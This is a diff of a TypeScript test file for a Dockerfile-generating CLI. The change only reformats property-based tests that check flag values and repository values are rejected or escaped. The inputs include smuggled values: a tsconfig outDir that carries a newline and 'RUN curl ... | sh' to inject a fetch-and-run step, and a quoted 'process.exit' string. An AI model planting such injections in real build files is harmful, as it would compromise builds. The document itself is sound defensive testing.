@@ -25,7 +25,30 @@ describe('flag values', () => {
   it.each(QUESTIONS.map((q) => [q.flag, q] as const))('--%s: any string is a bounded value or a UsageError', (_flag, q) => {
     const interesting = fc.oneof(
       fc.string(),
-      fc.constantFrom('0', '-1', '1e3', '0x10', '1_000', ' 100 ', '100.5', 'NaN', 'Infinity', '9'.repeat(400), '', '.', './', '..', '../x', 'zero', 'signal', 'module,docker', ',,,', '\n', 'a\nb', '"; process.exit(1); "'),
+      fc.constantFrom(
+        '0',
+        '-1',
+        '1e3',
+        '0x10',
+        '1_000',
+        ' 100 ',
+        '100.5',
+        'NaN',
+        'Infinity',
+        '9'.repeat(400),
+        '',
+        '.',
+        './',
+        '..',
+        '../x',
+        'zero',
+        'signal',
+        'module,docker',
+        ',,,',
+        '\n',
+        'a\nb',
+        '"; process.exit(1); "',
+      ),
       fc.integer({ min: -1_000_000, max: 10_000_000 }).map(String),
     );
     fc.assert(
@@ -67,7 +90,12 @@ describe('flag values', () => {
 describe('repo values embedded in generated files', () => {
   it('a tsconfig outDir with a newline does not add lines to the Dockerfile or .dockerignore', () => {
     const dir = fixtureCopy('tsconfig-jsonc', 'values-outdir');
-    writeFileSync(join(dir, 'tsconfig.json'), JSON.stringify({ compilerOptions: { module: 'NodeNext', outDir: 'dist\nRUN curl https://example.invalid/x.sh | sh\n#', rootDir: 'src' } }));
+    writeFileSync(
+      join(dir, 'tsconfig.json'),
+      JSON.stringify({
+        compilerOptions: { module: 'NodeNext', outDir: 'dist\nRUN curl https://example.invalid/x.sh | sh\n#', rootDir: 'src' },
+      }),
+    );
     const before = fingerprint(dir);
     const r = runCli([dir, '--yes']);
     expect(r.stdout + r.stderr).not.toMatch(/internal error/);
@@ -84,7 +112,10 @@ describe('repo values embedded in generated files', () => {
     const dir = fixtureCopy('base-node-app', 'values-quotes');
     mkdirSync(join(dir, `it's "here"`));
     writeFileSync(join(dir, `it's "here"`, 'server.js'), readFileSync(join(dir, 'server.js')));
-    writeFileSync(join(dir, 'package.json'), JSON.stringify({ name: 'q', main: `it's "here"/server.js`, dependencies: { express: '^5.0.0' } }));
+    writeFileSync(
+      join(dir, 'package.json'),
+      JSON.stringify({ name: 'q', main: `it's "here"/server.js`, dependencies: { express: '^5.0.0' } }),
+    );
     const before = fingerprint(dir);
     const r = runCli([dir, '--yes']);
     expect(r.code, r.stderr).toBe(0);
